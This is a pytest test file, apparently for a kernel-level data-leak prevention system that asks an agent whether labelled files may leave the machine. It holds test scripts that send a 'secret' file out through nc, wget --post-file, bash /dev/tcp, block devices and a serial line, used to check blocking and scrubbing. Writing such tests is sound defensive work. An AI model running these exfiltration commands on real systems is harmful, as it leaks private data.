# SPDX-License-Identifier: GPL-3.0-or-later
"""Each answer, by real programs; no answer; answers for longer than one question; nobody there to answer."""

import re

import pytest

from tests.kernel.guest_run import CONTENT, Case
from tests.kernel.oracle import assert_allowed, assert_blocked, assert_innocent, assert_scrubbed, leaks

PROGRAMS = {
    "nc": "nc remote 9 < secret",
    "wget": "wget -q -T 5 -O - --post-file secret http://10.77.0.2/up",
    "ipv6": "nc remote6 9 < secret",
    "bash": "x=$(cat secret); echo ${x//$'\\n'/ } > /dev/tcp/remote/9",
    "program": "leak read send secret",
}
CASES = {action: [Case(name, script, action) for name, script in PROGRAMS.items()]
         for action in ("block", "allow", "scrub", "quit")}


@pytest.mark.parametrize("case", CASES["block"], ids=str)
def test_block(case, outcome):
    assert_blocked(outcome, nothing_at_all=case.name != "wget")
    assert outcome.status != 0, outcome.describe()


@pytest.mark.parametrize("case", CASES["allow"], ids=str)
def test_allow(case, outcome):
    assert_allowed(outcome)
    assert outcome.status == 0, outcome.describe()


@pytest.mark.parametrize("case", CASES["scrub"], ids=str)
def test_scrub(case, outcome):
    assert_scrubbed(outcome)
    assert outcome.status == 0, outcome.describe()


@pytest.mark.parametrize("case", CASES["quit"], ids=str)
def test_quit(case, outcome):
    assert_blocked(outcome, nothing_at_all=case.name != "wget")
    assert outcome.status == 137, outcome.describe()


@pytest.mark.parametrize("case", [Case("question", "leak read write secret")], ids=str)
def test_question_tells_who_what_where(case, outcome):
    (question,) = outcome.questions
    for word in ("comm=leak", "exe=/usr/bin/leak", "origin=/mnt/case/secret", "address=10.77.0.2", "port=9", "length=55",
                 "scrubbed=55", "flags=4"):
        assert word in question.split(), outcome.describe()


@pytest.mark.parametrize("case", [Case("dead", "agent policy 9000 3000; leak read write secret & sleep 1; kill -9 $(agent doubles); sleep 0.5; touch /run/told; "
                                       "wait $!", "told")], ids=str)
def test_a_dead_doppelgangers_copy_is_sent(case, outcome):
    assert_scrubbed(outcome)
    assert outcome.received == re.sub(rb"\S", b"x", CONTENT), outcome.describe()


@pytest.mark.parametrize("case", [Case("silent", "agent policy 700 2000; leak read write secret", "silence")], ids=str)
def test_silence_blocks_in_the_end(case, outcome):
    assert_blocked(outcome)
    assert any(line.startswith("missed") for line in outcome.events), outcome.describe()


@pytest.mark.parametrize("case", [Case("alone", "time leak read write secret; serve() { agent serve block /run/agent.log; }\n"
                                       "agent=$(serve); sleep 0.2; kill $agent", "none", timeout=8)], ids=str)
def test_without_daemon_blocked_and_told_later(case, outcome):
    assert outcome.received == b"", outcome.describe()
    assert any(line.startswith("missed comm=leak") for line in outcome.events), outcome.describe()


RESTARTED = """
first=$(agent serve silence /run/first)
leak read write secret & leak=$!
until grep -q question /run/first; do sleep 0.02; done
kill -9 $first
sleep 0.2
second=$(agent serve {action} /run/agent.log)
wait $leak
kill $second
"""


@pytest.mark.parametrize("case", [Case("restarted-" + action, RESTARTED.format(action=action), "none")
                                  for action in ("block", "allow")], ids=str)
def test_asked_again_after_the_daemon_died(case, outcome):
    assert len(outcome.questions) == 1, outcome.describe()
    assert bool(leaks(outcome.received)) == (case.name == "restarted-allow"), outcome.describe()


WITHDRAWN = """
leak read write secret & leak=$!
until grep -q question /run/agent.log; do sleep 0.02; done
kill -9 $leak
wait $leak
sleep 0.2
"""


@pytest.mark.parametrize("case", [Case("killed", WITHDRAWN, "silence")], ids=str)
def test_question_of_a_killed_process_is_withdrawn(case, outcome):
    assert outcome.received == b"", outcome.describe()
    assert any(line.startswith("event type=2 ") for line in outcome.events), outcome.describe()


# The same shell sends three times, twice on one connection.
THRICE = """
serve() {{ agent serve {action} /run/agent.log {scope}; }}
agent=$(serve)
x=$(cat secret)
exec 5> /dev/tcp/10.77.0.2/9
echo "one $x" >&5
echo "two $x" >&5
echo "three $x" > /dev/tcp/10.77.0.2/9
{after}
kill $agent
"""


def thrice(name, action, scope, after=""):
    """Words are separated by line breaks: bash writes line by line, each line is a question where nothing is cached."""
    return Case(name, THRICE.format(action=action, scope=scope, after=after).replace("x=$(cat secret)",
                "x=$(tr '\\n' ' ' < secret)"), "none")


@pytest.mark.parametrize("case", [thrice("flow-scope", "allow", "flow"), thrice("flow-scope-block", "block", "flow")], ids=str)
def test_answer_for_a_flow_holds_for_it_alone(case, outcome):
    assert len(outcome.questions) == 2, outcome.describe()
    assert bool(leaks(outcome.received)) == (case.name == "flow-scope"), outcome.describe()


@pytest.mark.parametrize("case", [thrice("process-scope", "allow", "process")], ids=str)
def test_answer_for_a_process_holds_for_its_connections(case, outcome):
    assert len(outcome.questions) == 1, outcome.describe()
    assert all(word in outcome.received for word in (b"one", b"two", b"three")), outcome.describe()


# An answer for one file does not cover a second file that the same shell reads later. Each has connections of its own, and they share one.
TWO_FILES = """
cp secret second; agent label second
serve() {{ agent serve allow /run/agent.log {scope}; }}
agent=$(serve)
exec 5> /dev/tcp/10.77.0.2/9
x=$(tr '\\n' ' ' < secret)
echo "one $x" >&5
echo "two $x" > /dev/tcp/10.77.0.2/9
x=$(tr '\\n' ' ' < second)
echo "three $x" >&5
echo "four $x" > /dev/tcp/10.77.0.2/9
x=$(tr '\\n' ' ' < secret)
echo "five $x" > /dev/tcp/10.77.0.2/9
kill $agent
"""


# scope -> the files that the questions name: once for each file, or for each connection.
TWO_FILES_ASKED = {"file": ["secret", "second"], "flow-file": ["secret", "secret", "second", "second", "secret"]}


@pytest.mark.parametrize("case", [Case(scope, TWO_FILES.format(scope=scope), "none") for scope in TWO_FILES_ASKED], ids=str)
def test_answer_for_a_file_holds_for_it_alone(case, outcome):
    origins = [word.rpartition("/")[2] for line in outcome.questions for word in line.split() if word.startswith("origin=")]
    assert origins == TWO_FILES_ASKED[case.name], outcome.describe()
    assert all(word in outcome.received for word in (b"one", b"two", b"three", b"four", b"five")), outcome.describe()


MOVED = """
serve() { agent serve allow /run/agent.log file; }
agent=$(serve)
x=$(tr '\\n' ' ' < secret)
echo "one $x" > /dev/tcp/10.77.0.2/9
mkdir other; mv secret other/
x=$(tr '\\n' ' ' < other/secret)
echo "two $x" > /dev/tcp/10.77.0.2/9
kill $agent
"""


@pytest.mark.parametrize("case", [Case("moved", MOVED, "none")], ids=str)
def test_a_file_that_was_moved_is_another_one(case, outcome):
    origins = [word for line in outcome.questions for word in line.split() if word.startswith("origin=")]
    assert origins == ["origin=/mnt/case/secret", "origin=/mnt/case/other/secret"], outcome.describe()


# A file that holds data of one labelled file, to which another program appends, is of mixed origin from then on.
MIXED = """
cp secret second; agent label second
x=$(tr '\\n' ' ' < secret)
echo "$x" > mixed
read -r y < mixed
echo "one $y" > /dev/tcp/10.77.0.2/9
cat second >> mixed
{ read -r y; read -r y z; } < mixed
echo "two $y" > /dev/tcp/10.77.0.2/9
"""


@pytest.mark.parametrize("case", [Case("mixed", MIXED, "allow")], ids=str)
def test_a_file_of_mixed_origin_is_named_itself(case, outcome):
    origins = [word.rpartition("/")[2] for line in outcome.questions for word in line.split() if word.startswith("origin=")]
    assert origins == ["secret", "mixed"], outcome.describe()


@pytest.mark.parametrize("case", [thrice("flushed", "allow", "process",
                                         'agent flush; echo "four $x" > /dev/tcp/10.77.0.2/9')], ids=str)
def test_flush_asks_again(case, outcome):
    assert len(outcome.questions) == 2, outcome.describe()


@pytest.mark.parametrize("case", [Case("other-process", "leak read write secret; leak read write secret", "allow")], ids=str)
def test_another_process_is_asked_again(case, outcome):
    assert len(outcome.questions) == 2, outcome.describe()


@pytest.mark.parametrize("case", [Case("unlabelled", "agent unlabel secret; leak read write secret")], ids=str)
def test_label_removed(case, outcome):
    assert not outcome.questions, outcome.describe()
    assert leaks(outcome.received), outcome.describe()


FAT = """
dd if=/dev/zero of=disk bs=1M count=4 status=none
mkdosfs disk > /dev/null
mkdir -p /tmp/fat
modprobe vfat; mount -t vfat -o loop disk /tmp/fat
cp secret /tmp/fat/copy
echo 3 > /proc/sys/vm/drop_caches
umount /tmp/fat
grep -c Sphinx77 disk
"""


@pytest.mark.parametrize("case", [Case("stick", FAT, action) for action in ("block", "allow")], ids=str)
def test_file_system_without_labels(case, outcome):
    assert outcome.questions, outcome.describe()
    found = outcome.output.split()[-1] != "0"
    assert found == (case.action == "allow"), outcome.describe()


@pytest.mark.parametrize("case", [Case("stick-unlabelled", FAT.replace("cp secret", "cat secret > /dev/null; cp /run/plain"))],
                         ids=str)
def test_file_system_without_labels_takes_public_data(case, outcome):
    assert not outcome.questions, outcome.describe()


BLOCK_DEVICE = """
modprobe loop
dd if=/dev/zero of=disk bs=1M count=1 status=none
device=$(losetup -f); losetup $device disk
dd if=secret of=$device conv=notrunc,fsync status=none
losetup -d $device
grep -c Sphinx77 disk
"""


@pytest.mark.parametrize("case", [Case("block-device", BLOCK_DEVICE, action) for action in ("block", "allow")], ids=str)
def test_block_device(case, outcome):
    assert [question for question in outcome.questions if "comm=dd" in question], outcome.describe()
    found = outcome.output.split()[-1] != "0"
    assert found == (case.action == "allow"), outcome.describe()


# In a session of its own a process has no terminal: the guest's is then a serial line like any other.
SERIAL_LINE = "setsid bash -c 'cat secret > /dev/ttyS1'; echo status $?"


@pytest.mark.parametrize("case", [Case("serial-line", SERIAL_LINE, action) for action in ("block", "allow")], ids=str)
def test_serial_line(case, outcome):
    assert len(outcome.questions) == 1, outcome.describe()
    assert bool(leaks(outcome.output.encode())) == (case.action == "allow"), outcome.describe()


@pytest.mark.parametrize("case", [Case("serial-line-again", f"{SERIAL_LINE}; {SERIAL_LINE}", "allow")], ids=str)
def test_device_is_asked_about_for_each_process(case, outcome):
    assert len(outcome.questions) == 2, outcome.describe()


@pytest.mark.parametrize("case", [Case("serial-line-unlabelled", "cat secret > /dev/null; setsid cat /run/plain > /dev/ttyS1")], ids=str)
def test_serial_line_takes_public_data(case, outcome):
    assert not outcome.questions, outcome.describe()


@pytest.mark.parametrize("case", [Case("terminal", "cat secret; echo constant | nc remote 9")], ids=str)
def test_terminal_is_exempt(case, outcome):
    assert_innocent(outcome, b"constant")
